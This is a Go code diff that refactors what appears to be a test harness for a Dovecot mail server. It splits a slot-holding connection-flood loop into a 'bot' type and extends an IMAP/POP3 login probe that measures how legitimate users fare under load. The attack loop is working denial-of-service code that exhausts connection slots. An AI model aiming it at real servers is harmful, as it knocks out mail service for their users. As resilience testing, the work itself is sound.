@@ -92,30 +92,49 @@ func Attack(ctx context.Context, cfg AttackConfig) AttackStats {
 		wg.Add(1)
 		go func() {
 			defer wg.Done()
-			d := net.Dialer{LocalAddr: &net.TCPAddr{IP: src.AsSlice()}, Timeout: cfg.DialTimeout}
-			dst := netip.AddrPortFrom(cfg.Servers.For(src), uint16(port)).String()
-			for ctx.Err() == nil {
-				atomic.AddInt64(&st.Dials, 1)
-				c, err := d.DialContext(ctx, "tcp", dst)
-				if err != nil {
-					atomic.AddInt64(&st.DialErrors, 1)
-					// A refused connect returns at once; without a pause a
-					// worker would spin. 50 ms is still "at once" to Dovecot.
-					sleep(ctx, 50*time.Millisecond)
-					continue
-				}
-				atomic.AddInt64(&st.Connected, 1)
-				seen.Store(src, true)
-				if holdSlot(ctx, c, port, cfg.Hold, &st) {
-					atomic.AddInt64(&st.ServerDrops, 1)
-				}
-				sleep(ctx, cfg.Pause)
-			}
+			bot{servers: cfg.Servers, src: src, port: port, dialTimeout: cfg.DialTimeout, pause: cfg.Pause, st: &st, seen: &seen}.
+				run(ctx, func(c net.Conn) bool { return holdSlot(ctx, c, port, cfg.Hold, &st) })
 		}()
 	}
 	wg.Wait()
 	seen.Range(func(any, any) bool { st.SourcesConnected++; return true })
 	return st
+}
+
+// bot is one attacking connection slot: it dials from src, plays a
+// connection, and dials again as soon as the connection ends.
+type bot struct {
+	servers     Servers
+	src         netip.Addr
+	port        int
+	dialTimeout time.Duration
+	pause       time.Duration
+	st          *AttackStats
+	seen        *sync.Map
+}
+
+// run dials until ctx ends; play handles a connection and reports whether
+// the server ended it.
+func (b bot) run(ctx context.Context, play func(net.Conn) bool) {
+	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: b.src.AsSlice()}, Timeout: b.dialTimeout}
+	dst := netip.AddrPortFrom(b.servers.For(b.src), uint16(b.port)).String()
+	for ctx.Err() == nil {
+		atomic.AddInt64(&b.st.Dials, 1)
+		c, err := d.DialContext(ctx, "tcp", dst)
+		if err != nil {
+			atomic.AddInt64(&b.st.DialErrors, 1)
+			// A refused connect returns at once; without a pause a
+			// worker would spin. 50 ms is still "at once" to Dovecot.
+			sleep(ctx, 50*time.Millisecond)
+			continue
+		}
+		atomic.AddInt64(&b.st.Connected, 1)
+		b.seen.Store(b.src, true)
+		if play(c) {
+			atomic.AddInt64(&b.st.ServerDrops, 1)
+		}
+		sleep(ctx, b.pause)
+	}
 }
 
 // holdSlot plays one bot connection; it reports whether the server ended it.
@@ -182,10 +201,30 @@ type ProbeConfig struct {
 	RootCAs    *x509.CertPool
 	// Count, if positive, stops after that many attempts.
 	Count int
+	// Class names the users in the results ("returning", "new", ...).
+	Class string `json:"class,omitempty"`
+	// Protos are the protocols the logins cycle through: by default IMAP
+	// and POP3, each user alternating on its own turns; with ProtoByAttempt,
+	// one attempt after the other (for users who log in once each).
+	Protos         []string `json:"protos,omitempty"`
+	ProtoByAttempt bool     `json:"proto_by_attempt,omitempty"`
+}
+
+func (cfg ProbeConfig) proto(k int) string {
+	ps := cfg.Protos
+	if len(ps) == 0 {
+		ps = []string{"imap", "pop3"}
+	}
+	if cfg.ProtoByAttempt {
+		return ps[k%len(ps)]
+	}
+	// k/n counts the user's own turns, so each user alternates.
+	return ps[(k/len(cfg.Users))%len(ps)]
 }
 
 // Attempt is one probe login.
 type Attempt struct {
+	Class   string        `json:"class,omitempty"`
 	Start   time.Time     `json:"start"`
 	User    string        `json:"user"`
 	Src     netip.Addr    `json:"src"`
@@ -207,8 +246,7 @@ func Probe(ctx context.Context, cfg ProbeConfig, report func(Attempt)) {
 	n := len(cfg.Users)
 	for k := 0; cfg.Count <= 0 || k < cfg.Count; k++ {
 		u := cfg.Users[k%n]
-		// k/n counts the user's own turns, so each user alternates.
-		proto := [2]string{"imap", "pop3"}[(k/n)%2]
+		proto := cfg.proto(k)
 		wg.Add(1)
 		go func() {
 			defer wg.Done()
@@ -232,7 +270,7 @@ func Probe(ctx context.Context, cfg ProbeConfig, report func(Attempt)) {
 
 // Login logs u in with proto over STARTTLS and logs out.
 func Login(ctx context.Context, cfg ProbeConfig, u User, proto string) Attempt {
-	a := Attempt{Start: time.Now(), User: u.Name, Src: u.Src, Proto: proto}
+	a := Attempt{Class: cfg.Class, Start: time.Now(), User: u.Name, Src: u.Src, Proto: proto}
 	err := login(ctx, cfg, u, proto)
 	a.Latency = time.Since(a.Start)
 	a.OK = err == nil
@@ -245,6 +283,25 @@ func Login(ctx context.Context, cfg ProbeConfig, u User, proto string) Attempt {
 func login(ctx context.Context, cfg ProbeConfig, u User, proto string) error {
 	ctx, cancel := context.WithTimeout(ctx, cfg.Deadline)
 	defer cancel()
+	raw, err := dial(ctx, cfg, u, proto)
+	if err != nil {
+		return err
+	}
+	defer raw.Close()
+	tlsCfg := &tls.Config{ServerName: cfg.ServerName, RootCAs: cfg.RootCAs, MinVersion: tls.VersionTLS12}
+	if proto == "imap" {
+		c, _, err := imapLogin(raw, tlsCfg, u)
+		if err == nil {
+			io.WriteString(c, "a2 LOGOUT\r\n")
+		}
+		return err
+	}
+	return pop3Login(raw, tlsCfg, u)
+}
+
+// dial connects u to proto's plain port; the connection's deadline is
+// ctx's.
+func dial(ctx context.Context, cfg ProbeConfig, u User, proto string) (net.Conn, error) {
 	port := PortIMAP
 	if proto == "pop3" {
 		port = PortPOP3
@@ -252,38 +309,34 @@ func login(ctx context.Context, cfg ProbeConfig, u User, proto string) error {
 	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: u.Src.AsSlice()}}
 	raw, err := d.DialContext(ctx, "tcp", netip.AddrPortFrom(cfg.Servers.For(u.Src), uint16(port)).String())
 	if err != nil {
-		return fmt.Errorf("connect: %w", err)
+		return nil, fmt.Errorf("connect: %w", err)
 	}
-	defer raw.Close()
 	dl, _ := ctx.Deadline()
 	raw.SetDeadline(dl)
-	tlsCfg := &tls.Config{ServerName: cfg.ServerName, RootCAs: cfg.RootCAs, MinVersion: tls.VersionTLS12}
-	if proto == "imap" {
-		return imapLogin(raw, tlsCfg, u)
-	}
-	return pop3Login(raw, tlsCfg, u)
+	return raw, nil
 }
 
-func imapLogin(raw net.Conn, tlsCfg *tls.Config, u User) error {
+// imapLogin upgrades raw with STARTTLS and logs u in; it returns the
+// session, logged in.
+func imapLogin(raw net.Conn, tlsCfg *tls.Config, u User) (*tls.Conn, *bufio.Reader, error) {
 	r := bufio.NewReader(raw)
 	if err := expect(r, "* OK"); err != nil {
-		return fmt.Errorf("greeting: %w", err)
+		return nil, nil, fmt.Errorf("greeting: %w", err)
 	}
 	io.WriteString(raw, "a0 STARTTLS\r\n")
 	if err := expectTagged(r, "a0"); err != nil {
-		return fmt.Errorf("STARTTLS: %w", err)
+		return nil, nil, fmt.Errorf("STARTTLS: %w", err)
 	}
 	c := tls.Client(raw, tlsCfg)
 	if err := c.Handshake(); err != nil {
-		return fmt.Errorf("TLS: %w", err)
+		return nil, nil, fmt.Errorf("TLS: %w", err)
 	}
 	r = bufio.NewReader(c)
 	fmt.Fprintf(c, "a1 LOGIN %s %s\r\n", u.Name, u.Pass)
 	if err := expectTagged(r, "a1"); err != nil {
-		return fmt.Errorf("LOGIN: %w", err)
+		return nil, nil, fmt.Errorf("LOGIN: %w", err)
 	}
-	io.WriteString(c, "a2 LOGOUT\r\n")
-	return nil
+	return c, r, nil
 }
 
 func pop3Login(raw net.Conn, tlsCfg *tls.Config, u User) error {
